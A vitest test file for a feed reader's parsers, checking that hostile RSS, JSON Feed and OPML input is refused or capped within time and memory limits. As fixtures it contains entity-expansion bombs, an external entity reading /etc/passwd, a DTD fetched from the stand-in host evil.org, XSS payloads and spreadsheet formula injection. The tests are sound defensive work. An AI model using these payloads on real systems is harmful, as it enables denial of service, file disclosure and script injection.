import { describe, expect, it } from 'vitest';
import { discoverFeeds, linksOfPage } from '../../../lib/feeds/discover';
import { parseOpml } from '../../../lib/feeds/opml';
import { parseFeed } from '../../../lib/feeds/parse';
import { isFailure } from '../../../lib/model/library';
import { decodeText } from '../../../lib/net/decode';

const NOW = Date.parse('2026-11-22T12:00:00Z');
const ADDRESS = 'https://www.courier.org/rss.xml';
/** Milliseconds of work that a hostile feed may cost, and bytes that it may leave behind. */
const LONGEST = 1_000;
const LARGEST = 50e6;

const rss = (inner: string) =>
  `<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>T</title>${inner}</channel></rss>`;
const described = (text: string) => rss(`<item><title>A</title><description>${text}</description></item>`);
const each = (markup: string, size = 5_100_000) => {
  const one = `<item><title>a</title><description><![CDATA[${markup.repeat(Math.floor(size / 510 / markup.length))}]]></description></item>`;
  return rss(one.repeat(500));
};
const names = (count: number, of: (i: number) => string) => Array.from({ length: count }, (_, i) => of(i)).join(' ');
const text16 = (text: string, bigEndian: boolean) => {
  const bytes = new Uint8Array(text.length * 2);
  for (let i = 0; i < text.length; i++) new DataView(bytes.buffer).setUint16(i * 2, text.charCodeAt(i), !bigEndian);
  return bytes;
};

/** What a feed gives and the work it costs, in milliseconds of this process: on a busy machine the clock on the wall tells less. */
function cost(run: () => unknown): { result: unknown; worked: number; left: number } {
  const [memory, before] = [process.memoryUsage().heapUsed, process.cpuUsage()];
  const result = run();
  const { user } = process.cpuUsage(before);
  return { result, worked: user / 1_000, left: process.memoryUsage().heapUsed - memory };
}

const outcome = (result: unknown): string => {
  const read = result as ReturnType<typeof parseFeed>;
  return isFailure(read) ? read.detail : `${read.items.length} items`;
};

const DOCTYPE = 'It has a document type declaration (DOCTYPE); such feeds are not read.';
const LONG = 'It is longer than 5 MB.';
const MARKUP = 'It has more than 600,000 pieces of markup; no feed needs so many.';
const DEEP = 'It has more than 50 parts inside one another; no feed needs so many.';
const BREAKS = 'The feed breaks off before its first item is complete.';
const entities = (levels: number) =>
  Array.from({ length: levels }, (_, i) => `<!ENTITY e${i} "${i ? `&e${i - 1};`.repeat(10) : 'ha'}">`).join('');

describe('hostile feeds', () => {
  // `text` is made when its test runs: they are large.
  const feeds: readonly [string, string, () => string][] = [
    ['entities of 4 levels', DOCTYPE, () => `<!DOCTYPE rss [${entities(4)}]>${described('&e3;')}`],
    ['entities of 9 levels', DOCTYPE, () => `<!DOCTYPE rss [${entities(9)}]>${described('&e8;')}`],
    [
      'one large entity, used 5,000 times',
      DOCTYPE,
      () => `<!DOCTYPE rss [<!ENTITY a "${'A'.repeat(100_000)}">]>${described('&a;'.repeat(5_000))}`,
    ],
    [
      'an external entity',
      DOCTYPE,
      () => `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>${described('&x;')}`,
    ],
    [
      'a parameter entity',
      DOCTYPE,
      () => `<!DOCTYPE rss [<!ENTITY % x SYSTEM "https://evil.org/x.dtd"> %x;]>${described('')}`,
    ],
    [
      'a DOCTYPE after 100 kB of blanks',
      DOCTYPE,
      () => `${' '.repeat(100_000)}<!DOCTYPE rss [<!ENTITY a "b">]>${described('&a;')}`,
    ],
    ['a DOCTYPE after a comment', DOCTYPE, () => `<!-- x --><!doctype rss>${described('')}`],
    ['a DOCTYPE after the root began', DOCTYPE, () => described('<!DOCTYPE rss>')],
    ['an entity without a DOCTYPE', DOCTYPE, () => described('<!ENTITY a "b">')],
    ['a DOCTYPE that does not end', 'This is not a feed.', () => '<!DOCTYPE rss [ <!ENTITY a "b" '],
    ['a DOCTYPE in a CDATA section, which is text', '1 items', () => described('<![CDATA[<!DOCTYPE rss>]]>')],
    ['2,000,000 character references', LONG, () => described('&#65;'.repeat(2_000_000))],
    ['a million character references', MARKUP, () => described('&#65;'.repeat(1_000_000))],
    [
      'many references in every item',
      '500 items',
      () => rss(`<item><title>a</title><description>${'&#65;'.repeat(1_100)}</description></item>`.repeat(500)),
    ],
    ['100,000 elements inside one another', DEEP, () => rss(`<item>${'<a>'.repeat(100_000)}`)],
    [
      '100,000 closed elements inside one another',
      DEEP,
      () => rss(`<item>${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}</item>`),
    ],
    ['items inside one another', DEEP, () => rss('<item><title>a</title>'.repeat(100_000))],
    [
      '200,000 items',
      LONG,
      () =>
        rss(
          '<item><title>a</title><link>https://www.courier.org/a</link><description>b</description></item>'.repeat(
            200_000,
          ),
        ),
    ],
    [
      '60,000 items',
      '500 items',
      () => rss('<item><title>a</title><link>https://www.courier.org/a</link></item>'.repeat(60_000)),
    ],
    [
      '150,000 items of JSON',
      '500 items',
      () =>
        JSON.stringify({
          version: 'https://jsonfeed.org/version/1.1',
          items: Array.from({ length: 150_000 }, (_, id) => ({ id, title: 'a' })),
        }),
    ],
    [
      'JSON of a million lists',
      'It has more than 50 parts inside one another; no feed needs so many.',
      () => `{"version":"https://jsonfeed.org/version/1","items":${'['.repeat(1_000_000)}`,
    ],
    ['a CDATA section that does not end', BREAKS, () => rss(`<item><description><![CDATA[${'x'.repeat(4_900_000)}`)],
    ['500,000 beginnings of CDATA', '0 items', () => `${rss('<![CDATA['.repeat(500_000))}]]></channel></rss>`],
    ['a comment that does not end', BREAKS, () => `<rss><channel>${'<!--'.repeat(1_200_000)}`],
    ['700,000 comments', MARKUP, () => `<rss><channel>${'<!---->'.repeat(700_000)}`],
    ['instructions that do not end', BREAKS, () => `<rss><channel>${'<?'.repeat(2_500_000)}`],
    ['nothing but <', BREAKS, () => `<rss><channel><item>${'<'.repeat(5_000_000)}`],
    ['nothing but &', BREAKS, () => `<rss><channel><item>${'&'.repeat(5_000_000)}`],
    ['nothing but &#1', BREAKS, () => `<rss><channel><item>${'&#1'.repeat(1_600_000)}`],
    ['closing tags of nothing', BREAKS, () => `<rss><channel><item>${'</a>'.repeat(1_200_000)}`],
    [
      'a million empty elements',
      MARKUP,
      () => `<rss><channel><item>${'<a/>'.repeat(1_200_000)}</item></channel></rss>`,
    ],
    ['2.5 million attributes of one name', MARKUP, () => rss(`<item ${'a '.repeat(2_500_000)}/>`)],
    ['400,000 attributes of other names', '0 items', () => rss(`<item ${names(400_000, (i) => `a${i}=""`)}/>`)],
    [
      'declarations of namespaces everywhere',
      '0 items',
      () => rss(`<item>${`<x ${names(60, (i) => `xmlns:a${i}="u"`)}/>`.repeat(4_500)}</item>`),
    ],
    ['an attribute of 5 MB', '0 items', () => rss(`<item a="${'x'.repeat(4_900_000)}"/>`)],
    ['a name of 5 MB', '0 items', () => rss(`<${'x'.repeat(4_900_000)}/>`)],
    ['a title of 5 MB', '1 items', () => rss(`<item><title>${'x'.repeat(4_900_000)}</title></item>`)],
    [
      'a link of 5 MB',
      '1 items',
      () => rss(`<item><title>a</title><link>https://a.org/${'x'.repeat(4_900_000)}</link></item>`),
    ],
    [
      'a date of 5 MB',
      '1 items',
      () => rss(`<item><title>a</title><pubDate>${'1 '.repeat(2_400_000)}</pubDate></item>`),
    ],
    [
      'categories without end',
      '1 items',
      () => rss(`<item><title>a</title>${'<category>x</category>'.repeat(200_000)}</item>`),
    ],
    ['runs of combining marks', '1 items', () => described('a\u0301\u0316'.repeat(1_600_000))],
    ['one run of combining marks', '1 items', () => described(`a${'\u0301'.repeat(4_900_000)}`)],
    ['nothing but line breaks', '1 items', () => described('\n'.repeat(4_900_000))],
    ['divisions inside one another in every item', '500 items', () => each('<div>')],
    [
      '12,000 divisions inside one another in 80 items',
      '80 items',
      () =>
        rss(`<item><title>a</title><description><![CDATA[${'<div>'.repeat(12_000)}]]></description></item>`.repeat(80)),
    ],
    ['paragraphs that end and never began', '500 items', () => each('</p>')],
    ['links that do not end', '500 items', () => each('<a href=x>')],
    ['forms and tables', '500 items', () => each('<form><table><tr><td>')],
    ['drawings in drawings', '500 items', () => each('<svg><title>')],
    ['bold and slanted in turn', '500 items', () => each('<b><i></b>')],
    ['half entities', '500 items', () => each('&')],
    ['half tags', '500 items', () => each('<a ')],
    ['tags escaped twice', '500 items', () => each('&lt;p&gt;')],
    ['blanks', '500 items', () => each(' ')],
    ['ends of sentences', '500 items', () => each('. ')],
    ['1,000,000 divisions', '1 items', () => described(`<![CDATA[${'<div>'.repeat(900_000)}]]>`)],
    [
      'names of the prototype',
      '1 items',
      () =>
        rss(
          '<item __proto__="x"><title>A</title><__proto__>x</__proto__><constructor>y</constructor><toString/></item>',
        ),
    ],
    ['the root named as the prototype', 'This is not a feed.', () => '<__proto__/>'],
    ['the root named as a method', 'This is not a feed.', () => '<toString><item><title>x</title></item></toString>'],
    ['two byte order marks', '1 items', () => `\ufeff\ufeff${described('')}`],
    ['NULs', '1 items', () => described('a\0b')],
    ['lone surrogates', '1 items', () => described('\ud800 \udc00')],
    ['nothing but blanks', 'The answer is empty.', () => ' '.repeat(5_000_000)],
    ['0 bytes', 'The answer is empty.', () => ''],
  ];

  it.each(feeds)('%s: %s', (_name, said, make) => {
    const text = make();
    const { result, worked, left } = cost(() => parseFeed(text, ADDRESS, NOW));
    expect(outcome(result)).toBe(said);
    expect(worked).toBeLessThanOrEqual(LONGEST);
    expect(left).toBeLessThanOrEqual(LARGEST);
    expect(({} as { x?: number }).x).toBeUndefined();
  });

  it('keep every field within its length', () => {
    const long = 'x '.repeat(300_000);
    const feed = parseFeed(
      rss(
        `<item><guid>${long}</guid><title>${long}</title><description>${long}</description><author>${long}</author><category>${long}</category><source>${long}</source></item>`,
      ),
      ADDRESS,
      NOW,
    );
    if (isFailure(feed)) throw new Error(feed.detail);
    const [item] = feed.items;
    expect(item?.title.length).toBeLessThanOrEqual(500);
    expect(item?.summary.length).toBeLessThanOrEqual(2_000);
    expect(item?.guid.length).toBeLessThanOrEqual(2_000);
    for (const name of [item?.author, item?.outlet, item?.categories[0]]) expect(name?.length).toBeLessThanOrEqual(200);
  });

  it('keep the newest of too many items, in the order of the feed', () => {
    const items = Array.from({ length: 900 }, (_, i) => {
      const date = new Date(NOW - (900 - i) * 60_000).toISOString();
      return `<item><title>${i}</title><dc:date>${date}</dc:date></item>`;
    });
    const feed = parseFeed(rss(items.join('')), ADDRESS, NOW);
    if (isFailure(feed)) throw new Error(feed.detail);
    expect(feed.capped).toBe(true);
    expect(feed.items).toHaveLength(500);
    expect(feed.items[0]?.title).toBe('400');
    expect(feed.items.at(-1)?.title).toBe('899');
  });

  it('give no markup, no control and no half character, whatever they write', () => {
    const payloads = [
      '<img src=x onerror=alert(1)>',
      '<script>alert(1)</script>',
      '</title><script>x</script>',
      '&lt;script&gt;x&lt;/script&gt;',
      '{{7*7}}',
      '$'.concat('{7*7}'),
      '}*{display:none',
      '\u2028',
      '\u001b[31m',
      '\u202eabc',
      '=HYPERLINK("https://evil.org")',
      '\ud800',
      'javascript:alert(1)',
      '<a href="javascript:alert(1)">x</a>',
      '<svg onload=alert(1)>',
      '<math><mi xlink:href="data:x">',
      '\u{e0041}\u{e0042}',
      'a\u200d\u200db',
      '<!--<p>-->',
      ']]&gt;',
      '<b',
      '<b a="',
      '&#x202e;abc',
      '&#27;[31m',
    ];
    for (const payload of payloads) {
      for (const written of [payload, `<![CDATA[${payload}]]>`]) {
        const feed = parseFeed(
          rss(
            `<item><title>T ${written}</title><description>D ${written}</description><author>A ${written}</author><category>${written}</category></item>`,
          ),
          ADDRESS,
          NOW,
        );
        if (isFailure(feed)) continue;
        for (const item of feed.items) {
          const all = [item.title, item.summary, item.author ?? '', item.guid, ...item.categories].join('\n');
          expect(all).not.toMatch(/[^\P{Cc}\n]|[\u202a-\u202e\u2066-\u2069\u2028\u2029\u{e0000}-\u{e007f}]/u);
          expect(all).not.toMatch(/<(?:img|svg|math|a|b) /);
          expect(all.isWellFormed()).toBe(true);
        }
      }
    }
  });
});

describe('encodings that hide a DOCTYPE', () => {
  const hidden = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE rss [<!ENTITY a "b">]><rss><channel/></rss>';
  const said = (bytes: Uint8Array, type: string | null = null) => {
    const text = decodeText(bytes, type);
    return typeof text === 'string' ? outcome(parseFeed(text, ADDRESS, NOW)) : text.detail;
  };

  it.each([true, false])('UTF-16 with and without a mark, big end first: %s', (big) => {
    expect(said(text16(`\ufeff${hidden}`, big))).toBe(DOCTYPE);
    expect(said(text16(hidden, big))).toBe(DOCTYPE);
  });

  it('UTF-16 that is only declared', () => {
    expect(said(new TextEncoder().encode(hidden))).toBe(DOCTYPE);
    expect(said(new TextEncoder().encode(hidden), 'text/xml; charset=utf-16')).toBe(DOCTYPE);
  });

  it.each([
    ['<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE', null],
    ['+ADw-rss+AD4-', 'text/xml; charset=utf-7'],
    ['+ADw-rss+AD4-', 'text/xml; charset="unicode-1-1-utf-7"'],
  ])('UTF-7 is refused: %s', (text, type) => {
    expect(said(new TextEncoder().encode(text), type)).toMatch(/^It is written in .*UTF-7, which is not read\.$/);
  });

  it('UTF-7 that nobody declares is text', () => {
    expect(said(new TextEncoder().encode('+ADwAIQ-DOCTYPE rss+AD4-'))).toBe('This is not a feed.');
  });

  it('UTF-32 is refused', () => {
    expect(said(new Uint8Array([0xff, 0xfe, 0, 0, 0x3c, 0, 0, 0]))).toMatch(/UTF-32/);
  });
});

describe('hostile lists of feeds and pages', () => {
  it.each([
    [
      'a DOCTYPE',
      'It has a document type declaration (DOCTYPE); such feeds are not read.',
      () => `<!DOCTYPE opml [${entities(9)}]><opml><body/></opml>`,
    ],
    [
      '100,000 outlines inside one another',
      /^It has more than 50 parts/,
      () => `<opml><body>${'<outline text="a">'.repeat(100_000)}`,
    ],
    ['5 MB and more', 'It is longer than 5 MB.', () => ' '.repeat(6_000_000)],
    ['a page', 'This is a page, not a feed.', () => '<html><body/></html>'],
    ['a feed', 'This is not a list of feeds (OPML).', () => rss('')],
    ['nothing', 'This is not a list of feeds (OPML).', () => ''],
  ])('%s is refused', (_name, said, make) => {
    const text = make();
    const { result, worked } = cost(() => parseOpml(text));
    expect((result as { detail: string }).detail).toMatch(said);
    expect(worked).toBeLessThanOrEqual(LONGEST);
  });

  it('100,000 outlines are capped', () => {
    const text = `<opml><body>${Array.from({ length: 60_000 }, (_, i) => `<outline xmlUrl="https://a${i}.org/rss"/>`).join('')}</body></opml>`;
    const { result, worked } = cost(() => parseOpml(text));
    expect(result).toMatchObject({ capped: true });
    expect((result as { feeds: unknown[] }).feeds).toHaveLength(2_000);
    expect(worked).toBeLessThanOrEqual(LONGEST);
  });

  it.each([
    ['<link rel=alternate type=application/rss+xml href=/a>', 500_000],
    ['<div>', 1_000_000],
    ['<', 5_000_000],
    ['<link ', 1_000_000],
    ['<link a=', 1_000_000],
    ['&', 5_000_000],
    ['<svg><title>', 500_000],
  ])('a page of nothing but %s', (markup, times) => {
    const { worked } = cost(() => linksOfPage(markup.repeat(times).slice(0, 5_000_000), ADDRESS));
    expect(worked).toBeLessThanOrEqual(LONGEST);
  });

  it('a site is asked a few times only', async () => {
    let asked = 0;
    const links = '<link rel="alternate" type="application/rss+xml" href="/FEED">'
      .repeat(50)
      .replaceAll('FEED', () => `${Math.random()}`);
    await discoverFeeds(
      'courier.org',
      async (address) => {
        asked++;
        return { address, text: `<!doctype html><html><head>${links}` };
      },
      NOW,
    );
    expect(asked).toBeLessThanOrEqual(8);
  });
});
